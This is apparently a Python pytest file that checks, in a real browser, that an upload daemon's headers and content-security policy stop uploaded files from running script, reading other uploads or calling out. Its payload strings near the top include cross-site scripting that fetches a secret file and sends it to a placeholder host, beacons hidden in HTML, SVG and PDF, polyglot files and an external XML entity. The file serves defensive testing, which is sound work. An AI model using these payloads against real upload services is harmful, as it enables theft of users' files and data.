"""Uploaded files in a real browser: whatever they hold, none of it runs, reads other uploads or calls home.

The same files from a server without the daemon's headers do all that, which shows that the test would see it.
"""

from __future__ import annotations

import html

import pytest

from tests.neighbours.browser import Browser
from tests.neighbours.elsewhere import Elsewhere
from tests.neighbours.upload import upload
from tests.support import Daemon, eventually

SECRET_TEXT = "nobody-reads-this"
SECRET_PATH = "other/secret.txt"

# What a file tries. $B is where it calls home to; $L says which file it is.
SCRIPT = f"""
    new Image().src = "$B/script/$L";
    navigator.sendBeacon("$B/beacon/$L");
    fetch("/upload/own/$L.png");
    fetch("/upload/{SECRET_PATH}").then(answer => answer.text()).then(text => fetch("$B/stolen/$L/" + text));
    try {{ parent.document.title = "taken"; fetch("$B/parent/$L"); }} catch (error) {{ }}
"""
HTML = f"""<!doctype html><html><head>
<meta http-equiv="refresh" content="30; url=$B/refresh/$L">
<link rel="stylesheet" href="$B/css/$L"><link rel="prefetch" href="$B/prefetch/$L"><style>@import "$B/import/$L";
@font-face {{ font-family: x; src: url($B/font/$L) }} body {{ font-family: x; background: url($B/back/$L) }}</style>
<script>{SCRIPT}</script><script src="$B/src/$L"></script></head>
<body onload="fetch('$B/onload/$L')"><p>hello</p><img src="$B/img/$L"><img src="/upload/own/$L.gif">
<img src="x:" onerror="fetch('$B/onerror/$L')"><video src="$B/video/$L" autoplay></video><iframe src="$B/frame/$L">
</iframe><object data="$B/object/$L"></object><embed src="$B/embed/$L"><svg onload="fetch('$B/svg/$L')"></svg>
<form id="f" action="$B/form/$L" target="_blank" method="post"></form></body></html>"""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"
onload="fetch('$B/onload/$L')"><script><![CDATA[{SCRIPT}]]></script>
<image xlink:href="$B/img/$L" width="9" height="9"/><style>@import "$B/import/$L";</style>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="$B/frame/$L"/></foreignObject>
</svg>"""
XHTML = f"""<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>
<script><![CDATA[{SCRIPT}]]></script></head><body><img src="$B/img/$L"/><iframe src="$B/frame/$L"/></body></html>"""
XSLT = """<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="$B/xsl/$L"?>
<?xml-stylesheet type="text/css" href="$B/css/$L"?><!DOCTYPE x [<!ENTITY e SYSTEM "$B/entity/$L">]><x>&e;</x>"""
PDF = """%PDF-1.4
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>> endobj
2 0 obj <</Type/Pages/Kids[4 0 R]/Count 1>> endobj
3 0 obj <</S/JavaScript/JS(app.launchURL\\("$B/launch/$L"\\); this.submitForm\\("$B/submit/$L"\\);)>> endobj
4 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI($B/uri/$L)>>>>>> endobj
trailer <</Root 1 0 R>>
%%EOF
"""
GIF_SCRIPT = f"GIF89a=1;{SCRIPT}"

# A name, the type that was signed (none: v signs no type), the content, and the type without our headers (none: the
# browser guesses).
Case = tuple[str, str, str, str]
CASES: list[Case] = [
    ("page.html", "", HTML, "text/html"),
    ("typed.html", "text/html", HTML, "text/html"),
    ("charset.htm", "text/html; charset=utf-7", HTML, "text/html; charset=utf-8"),
    ("upper.bin", "TEXT/HTML", HTML, "TEXT/HTML"),
    ("two-types", "text/html, text/plain", HTML, "text/html"),
    ("not-a-type", "html", HTML, ""),
    ("plain.txt", "text/plain", HTML, ""),
    ("picture.png", "image/png", HTML, ""),
    ("guess", "", HTML, ""),
    ("unknown", "*/*", HTML, ""),
    ("polyglot.pdf", "", HTML + PDF, ""),
    ("polyglot.zip", "", HTML + "PK\x03\x04", ""),
    ("drawing.svg", "", SVG, "image/svg+xml"),
    ("typed.svg", "image/svg+xml", SVG, "image/svg+xml"),
    ("page.xhtml", "", XHTML, "application/xhtml+xml"),
    ("data.xml", "", XHTML, "application/xml"),
    ("typed.xml", "text/xml", XHTML, "text/xml"),
    ("drawing.xml", "application/xml", SVG, "application/xml"),
]
WITHOUT_SCRIPT: list[Case] = [
    ("style.xml", "text/xml", XSLT, "text/xml"),
    ("feed.xml", "application/rss+xml", XHTML, "application/rss+xml"),
    ("document.pdf", "application/pdf", PDF, "application/pdf"),
    ("multipart", "multipart/x-mixed-replace; boundary=x", "--x\r\nContent-Type: text/html\r\n\r\n" + HTML, ""),
    ("mail.mht", "message/rfc822", "Content-Type: text/html\r\n\r\n" + HTML, ""),
    ("script.gif", "image/gif", GIF_SCRIPT, ""),
    ("script.txt", "text/plain", SCRIPT, ""),
    ("script.bin", "", SCRIPT, ""),
]
"""What a browser may not run even from a server without our headers, when it is opened."""


LEADS_AWAY = '<!doctype html><meta http-equiv="refresh" content="0; url=$B/away/$L"><script></script>'


@pytest.fixture(autouse=True)
def _secret(elsewhere: Elsewhere) -> None:
    """What is to be stolen, where no daemon is asked."""
    elsewhere.page(f"/upload/{SECRET_PATH}", "text/plain", SECRET_TEXT.encode())


def upload_all(daemon: Daemon, elsewhere: Elsewhere) -> dict[str, str]:
    """The URLs of all hostile files, by their names."""
    upload(daemon, SECRET_PATH, SECRET_TEXT.encode())
    return {
        name: upload(daemon, f"slot/{name}", elsewhere.content(text, name), media_type)
        for name, media_type, text, _ in CASES + WITHOUT_SCRIPT
    }


def nothing_happened(browser: Browser, elsewhere: Elsewhere, ours: set[str]) -> None:
    """After a harmful page without our headers had the time for its harm, no other page has done any."""
    page = elsewhere.page("/control.html", "text/html", elsewhere.content(HTML, "control"))
    browser.open(page)
    eventually(lambda: elsewhere.called("script", "beacon", "stolen", "img", "onload", label="control"))
    calls = [call for call in elsewhere.calls if "control" not in call and call not in ours]
    assert [call for call in calls if call not in ("/favicon.ico", f"/upload/{SECRET_PATH}")] == []


def test_opened_directly(browser: Browser, daemon: Daemon, elsewhere: Elsewhere) -> None:
    """A file that is opened like a page is saved or shown as text or picture; no script runs, nothing is fetched."""
    urls = upload_all(daemon, elsewhere)
    for name, url in urls.items():
        page = browser.open(url)
        eventually(lambda name=name: f"GET /upload/slot/{name} 200" in daemon.log)
        if not page.saved:
            assert name in {"plain.txt", "picture.png", "script.gif", "script.txt"}
            assert page.value("document.querySelectorAll('script, iframe, form').length") == 0
    nothing_happened(browser, elsewhere, set())
    assert "/upload/own/" not in daemon.log
    assert f"GET /upload/{SECRET_PATH}" not in daemon.log


def test_the_policy_alone_would_do(browser: Browser, daemon: Daemon, elsewhere: Elsewhere) -> None:
    """Even a browser that shows what it should save runs and fetches nothing: the policy forbids it."""
    upload(daemon, "slot/page.html", b"hello")
    policy = daemon.get("slot/page.html").headers["content-security-policy"]
    paths = set()
    for name, _, text, media_type in [*CASES, ("away.html", "", LEADS_AWAY, "text/html")]:
        content = elsewhere.content(text, name)
        page = browser.open(
            elsewhere.page(f"/{name}", media_type or "text/html", content, Content_Security_Policy=policy)
        )
        assert not page.saved
        assert page.value("document.querySelectorAll('script').length") > 0
        paths.add(f"/{name}")
    browser.open(elsewhere.page("/control-away.html", "text/html", elsewhere.content(LEADS_AWAY, "control")))
    eventually(lambda: elsewhere.called("away", label="control"))
    nothing_happened(browser, elsewhere, paths)


def test_embedded_in_a_page(browser: Browser, daemon: Daemon, elsewhere: Elsewhere) -> None:
    """A page of another site can not make a file run by embedding it, in whatever way."""
    urls = upload_all(daemon, elsewhere)
    elements = [
        f'<{start} {attribute}="{html.escape(url)}">{end}'
        for url in urls.values()
        for start, attribute, end in (
            ("iframe", "src", "</iframe>"),
            ("object", "data", "</object>"),
            ("embed", "src", ""),
            ("img", "src", ""),
            ("video autoplay", "src", "</video>"),
            ('link rel="stylesheet"', "href", ""),
            ("script", "src", "</script>"),
        )
    ]
    content = f"<!doctype html><body>{''.join(elements)}</body>"
    page = browser.open(elsewhere.page("/page.html", "text/html", content.encode()))
    for name in urls:
        eventually(lambda name=name: f"GET /upload/slot/{name} 200" in daemon.log)
    assert page.value("document.title") == ""
    nothing_happened(browser, elsewhere, {"/page.html"})
    assert "/upload/own/" not in daemon.log
    assert f"GET /upload/{SECRET_PATH}" not in daemon.log


@pytest.mark.parametrize("case", CASES, ids=[case[0] for case in CASES])
def test_the_proof_can_fail(browser: Browser, elsewhere: Elsewhere, case: Case) -> None:
    """Without the daemon's headers each of the files runs and calls, opened and in a frame."""
    name, _, text, media_type = case
    opened = elsewhere.page(f"/opened/{name}", media_type, elsewhere.content(text, f"opened-{name}"))
    framed = elsewhere.page(f"/framed/{name}", media_type, elsewhere.content(text, f"framed-{name}"))
    page = f'<!doctype html><iframe src="{framed}"></iframe>'.encode()
    browser.open(opened)
    browser.open(elsewhere.page("/page.html", "text/html", page))
    for label in (f"opened-{name}", f"framed-{name}"):
        eventually(
            lambda label=label: (
                elsewhere.called("script", "stolen", label=label) and f"/upload/own/{label}.png" in elsewhere.calls
            ),
            what=label,
        )


def test_the_proof_for_what_is_no_page_can_fail(browser: Browser, elsewhere: Elsewhere) -> None:
    """Without the daemon's headers a picture or text that is also a script runs as one, and a page leads away."""
    browser.open(elsewhere.page("/away.html", "text/html", elsewhere.content(LEADS_AWAY, "control")))
    eventually(lambda: elsewhere.called("away", label="control"))
    for name, text in (("script.gif", GIF_SCRIPT), ("script.txt", SCRIPT)):
        source = elsewhere.page(f"/{name}", "", elsewhere.content(text, name))
        browser.open(elsewhere.page("/page.html", "text/html", f'<script src="{source}"></script>'.encode()))
        eventually(lambda name=name: elsewhere.called("script", "stolen", label=name), what=name)
